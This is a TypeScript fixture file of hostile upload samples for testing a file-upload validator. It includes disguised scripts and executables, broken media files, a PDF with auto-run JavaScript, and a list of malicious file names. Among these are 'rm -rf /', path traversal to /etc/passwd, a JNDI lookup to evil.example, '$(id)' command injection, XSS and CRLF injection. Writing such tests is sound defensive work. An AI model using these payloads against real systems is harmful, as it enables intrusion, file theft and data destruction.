import sharp from "sharp"
import { BOMBS } from "./hostile-bombs"
import {
  box,
  FTYP,
  type HostileFile,
  PAGE,
  plain,
  png,
  smallPdf,
  smallVideo,
  text,
  ZIP,
} from "./hostile-parts"
import { POLYGLOTS } from "./hostile-polyglots"
import { SVGS } from "./hostile-svgs"

/** Types that are not accepted. */
const OTHER_TYPES: readonly HostileFile[] = [
  { what: "a page", name: "page.html", file: text(PAGE), answer: "invalid_field" },
  { what: "a page that is called a picture", name: "page.png", file: text(PAGE), answer: "invalid_field" },
  { what: "a script", name: "a.js", file: text("alert(1)"), answer: "invalid_field" },
  { what: "a shell script", name: "a.jpg", file: text("#!/bin/sh\nrm -rf /\n"), answer: "invalid_field" },
  { what: "an archive", name: "a.zip", file: () => ZIP, answer: "invalid_field" },
  {
    what: "a TIFF that is called a JPEG",
    name: "a.jpg",
    file: () =>
      sharp({ create: { width: 4, height: 4, channels: 3, background: "red" } })
        .tiff()
        .toBuffer(),
    answer: "invalid_field",
  },
  { what: "a bitmap", name: "a.bmp", file: text("BM0000000000000000"), answer: "invalid_field" },
  {
    what: "a QuickTime film",
    name: "a.mp4",
    file: () => box("ftyp", Buffer.from("qt  \0\0\0\0qt  ", "latin1")),
    answer: "invalid_field",
  },
  {
    what: "a Matroska film",
    name: "a.webm",
    file: () =>
      Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x8b, 0x42, 0x82, 0x88]), Buffer.from("matroska")]),
    answer: "invalid_field",
  },
  ...(
    [
      ["a program for Windows", "MZ\x90\0\x03"],
      ["a program for Linux", "\x7fELF\x02\x01\x01"],
      ["a class of Java", "\xca\xfe\xba\xbe\0\0\0\x34"],
      ["WebAssembly", "\0asm\x01\0\0\0"],
      ["PostScript", "%!PS-Adobe-3.0\n(a) print"],
      [
        "commands of ImageMagick",
        "push graphic-context\nfill 'url(http://evil.example/x.png)'\npop graphic-context",
      ],
      ["a playlist that names a file", "#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n"],
      [
        "a stylesheet",
        '<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
      ],
      ["a page of XHTML", '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'],
      ["an old document of Office", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"],
      ["a picture of a phone (HEIC)", "\0\0\0\x18ftypheic\0\0\0\0mif1heic"],
      ["an icon", "\0\0\x01\0\x01\0\x10\x10"],
      ["a video of Windows", "RIFF\x10\0\0\0AVI LIST"],
    ] as const
  ).map(
    ([what, content]): HostileFile => ({
      what,
      name: "a.jpg",
      file: text(content, "latin1"),
      answer: "invalid_field",
    }),
  ),
]

/** Broken files of accepted types. */
const BROKEN: readonly HostileFile[] = [
  { what: "no bytes", name: "empty.png", file: () => Buffer.alloc(0), answer: "invalid_field" },
  { what: "one byte", name: "a.png", file: () => Buffer.from([0x89]), answer: "invalid_field" },
  { what: "a PNG without a picture", name: "a.png", file: () => png(10, 10), answer: "invalid_field" },
  {
    what: "the beginning of a JPEG",
    name: "a.jpg",
    file: () => Buffer.from([0xff, 0xd8, 0xff, 0xe0]),
    answer: "invalid_field",
  },
  {
    what: "a JPEG's beginning before noise",
    name: "a.jpg",
    file: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(5000, 7)]),
    answer: "invalid_field",
  },
  {
    what: "a PDF without an end",
    name: "a.pdf",
    file: text("%PDF-1.4\n<script>alert(1)</script>"),
    answer: "invalid_field",
  },
  { what: "a video without a movie", name: "a.mp4", file: () => FTYP, answer: "invalid_field" },
  {
    what: "a video whose box is longer than the file",
    name: "a.mp4",
    file: () => Buffer.concat([FTYP, Buffer.from([0x7f, 0xff, 0xff, 0xff]), Buffer.from("moov")]),
    answer: "invalid_field",
  },
  {
    what: "a sound's tag without a sound",
    name: "a.mp3",
    file: () => Buffer.concat([Buffer.from("ID3\x04\0\0\0\0\0\0", "latin1"), Buffer.alloc(100)]),
    answer: "invalid_field",
  },
]

/** Rare files of accepted types. */
const UNUSUAL: readonly HostileFile[] = [
  {
    what: "a PDF with JavaScript",
    name: "a.pdf",
    file: () =>
      Buffer.from(
        smallPdf().toString().replace("/Catalog", "/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
      ),
    answer: "application/pdf",
  },
  { what: "a video", name: "a.mp4", file: smallVideo, answer: "video/mp4" },
  {
    what: "a picture in four inks",
    name: "a.jpg",
    file: () =>
      sharp({ create: { width: 9, height: 9, channels: 3, background: "red" } })
        .toColourspace("cmyk")
        .jpeg()
        .toBuffer(),
    answer: "image/jpeg",
  },
  { what: "an AVIF", name: "a.avif", file: () => plain("avif"), answer: "image/avif" },
]

/** The files by their kind. */
export const HOSTILE_FILES = {
  SVG: SVGS,
  polyglot: POLYGLOTS,
  bomb: BOMBS,
  "other type": OTHER_TYPES,
  "broken file": BROKEN,
  "unusual file": UNUSUAL,
}

/** File names that an attacker could send. */
export const HOSTILE_NAMES: readonly string[] = [
  "../../../etc/passwd",
  "..\\..\\windows\\system.ini",
  "/absolute/path.png",
  ".htaccess",
  "....//....//x.png",
  "<img src=x onerror=alert(1)>.png",
  "\u202Egnp.exe",
  `${"x".repeat(500)}.png`,
  "con.png",
  "a\r\nContent-Type: text/html.png",
  "%2e%2e%2fx.png",
  "bowl.png.php",
  "Schüssel 日本語.png",
  " ",
  ".",
  "..",
  "C:\\Windows\\x.png",
  "x.png::$DATA",
  "x.asp;.png",
  "x.png\u2028.html",
  "\u200B.svg",
  "${jndi:ldap://evil.example/x}.png",
  "$(id).png",
  "-rf.png",
]
